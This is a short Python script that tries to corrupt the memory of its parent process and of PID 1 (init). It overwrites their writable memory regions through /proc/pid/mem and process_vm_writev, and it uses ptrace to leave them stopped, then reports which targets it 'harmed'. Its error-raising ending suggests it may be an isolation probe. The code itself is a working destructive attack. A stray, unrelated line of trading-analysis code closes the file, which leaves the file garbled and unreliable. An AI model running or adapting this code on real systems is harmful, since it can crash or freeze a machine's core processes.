# Writes over the memory of its parent and of PID 1, through every door there is.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def writable(pid):
    with open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            fields = line.split()
            if fields[1].startswith("rw") and not (len(fields) > 5 and fields[5].startswith("/dev")):
                yield tuple(int(end, 16) for end in fields[0].split("-"))


def through_mem(pid):
    written = 0
    with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
        for low, high in writable(pid):
            try:
                memory.seek(low)
                written += memory.write(b"\xa5" * min(high - low, 1 << 20))
            except (OSError, ValueError, OverflowError):
                pass
    return written


def through_vm(pid):
    class Part(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
    noise, written = ctypes.create_string_buffer(b"\xa5" * 4096), 0
    for low, high in writable(pid):
        mine, other = Part(ctypes.addressof(noise), 4096), Part(low, 4096)
        written += max(0, libc.process_vm_writev(pid, ctypes.byref(mine), 1, ctypes.byref(other), 1, 0))
    return written


def through_trace(pid):
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        return 0
    os.waitpid(pid, 0x40000000)
    return 1  # stopped for good


harmed = []
for victim in {1, os.getppid()} - {os.getpid(), 0}:
    for door in (through_trace, through_vm, through_mem):
        try:
            if door(victim) > 0:
                harmed.append(f"{victim} {door.__name__}")
        except OSError:
            pass
if harmed:
    raise RuntimeError("harmed " + ", ".join(harmed))
report = sim(data.close > data.close.shift(1))
